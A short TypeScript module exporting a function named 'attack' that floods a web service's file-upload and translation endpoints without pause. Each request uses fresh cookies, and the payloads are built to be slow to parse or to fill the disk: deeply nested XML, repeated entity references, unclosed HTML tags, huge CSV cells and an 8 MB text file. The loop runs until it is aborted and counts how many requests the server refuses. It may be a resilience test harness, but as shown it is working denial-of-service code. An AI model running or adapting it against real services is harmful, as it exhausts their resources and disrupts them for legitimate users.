import { sendFile, translateText, visitorAt } from "./visitor.ts";

/** Files that were found to be slow to read, and such as only fill the disk. */
const files: readonly { readonly name: string; readonly bytes: Uint8Array }[] = [
  { name: "quotes.html", bytes: Buffer.from("‹".repeat(160_000)) },
  { name: "deep.xml", bytes: Buffer.from("<a>".repeat(160_000)) },
  { name: "open.html", bytes: Buffer.from("<b".repeat(250_000)) },
  { name: "cells.csv", bytes: Buffer.from('"a",'.repeat(120_000)) },
  { name: "entities.xml", bytes: Buffer.from(`<a>${"&x;".repeat(160_000)}</a>`) },
  { name: "large.txt", bytes: Buffer.alloc(8_000_000, "字 一二三。\n") },
];

export interface Attack {
  calls: number;
  refused: number;
}

/** Sends files and long texts without a pause, with new cookies for each, until it is stopped. */
export async function attack(url: string, address: string, signal: AbortSignal): Promise<Attack> {
  const done = { calls: 0, refused: 0 };
  for (let turn = 0; !signal.aborted; turn++) {
    const visitor = visitorAt(url, address);
    const file = files[turn % files.length];
    if (file === undefined) break;
    const taken = await sendFile(visitor, file.name, file.bytes).catch(() => undefined);
    const ms = await translateText(visitor, `第${turn}句。`.repeat(700)).catch(() => Number.NaN);
    done.calls += 2;
    done.refused += Number(taken === undefined) + Number(Number.isNaN(ms));
  }
  return done;
}
